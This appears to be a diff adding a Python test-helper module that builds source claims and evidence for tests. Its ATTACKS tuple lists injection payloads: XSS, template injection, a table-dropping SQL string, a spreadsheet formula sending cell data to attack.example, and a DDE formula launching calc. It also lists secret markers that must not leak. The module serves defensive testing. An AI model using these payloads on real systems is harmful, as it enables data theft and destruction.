@@ -1,0 +1,73 @@
+"""Writing the claims of a source by hand, and the words that the tests look for."""
+
+from dataclasses import dataclass, field
+
+from overt.model.claim import Claim, Evidence
+
+ATTACKS = (
+    "<script>alert('overt-attack')</script>",
+    "\"><img src=x onerror=alert('overt-attack')>",
+    "</title></textarea></style><svg/onload=alert(`overt-attack`)>",
+    "{{ 7 * 191 }}{% raw %}${7*191}",
+    "'; DROP TABLE records; --",
+    '=HYPERLINK("http://attack.example/?x="&A1,"overt-attack")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "&lt;b&gt;overt-attack&amp;lt;",
+)
+SECRETS = (
+    "Geheimprojekt",
+    "Zürn Überwachung",
+    "祖恩秘密公司",
+    "SECRET-77",
+    "secret_map:",
+    "987654321",
+    "13.3713",
+    "confidential excerpt",
+    "Nebelburg",
+)
+"""Marks of the private source; none may be seen by others."""
+
+
+@dataclass
+class SourceRows:
+    """The claims of one source in the making."""
+
+    slug: str
+    retrieved: str
+    position: int
+    claims: list[Claim] = field(default_factory=list)
+    evidence: list[Evidence] = field(default_factory=list)
+    types: dict[str, str] = field(default_factory=dict)
+
+    @property
+    def capture(self) -> str:
+        return (self.slug.encode().hex() + "0" * 64)[:64]
+
+    def add(
+        self,
+        kind: str,
+        key: str,
+        /,
+        document: str | None = None,
+        basis: str = "stated",
+        rule: str | None = None,
+        **values: object,
+    ) -> str:
+        """Claims of one record. A value is text, (text, unit) for money, (text, "lang:zh") for words, or a list of these."""
+        record = f"{self.slug}:{key}"
+        self.types[record] = kind
+        for name, held in values.items():
+            prop = name.rstrip("_").replace("_", "-")
+            for value in held if isinstance(held, list) else [held]:
+                text, mark = value if isinstance(value, tuple) else (value, None)
+                lang = mark.removeprefix("lang:") if mark and mark.startswith("lang:") else None
+                unit = None if lang else mark
+                claim = Claim(self.slug, record, kind, prop, str(text), None, unit, lang, None, None, basis, rule, document)
+                self.claims.append(claim)
+                self.evidence.append(Evidence(claim.id, self.capture, f"row={len(self.claims) + 1};col={prop}", str(text)[:1000]))
+        return record
+
+    def about(self, record: str, kind: str, **values: str) -> None:
+        """Claims about a record of another source."""
+        for name, value in values.items():
+            self.claims.append(Claim(self.slug, record, kind, name, value))
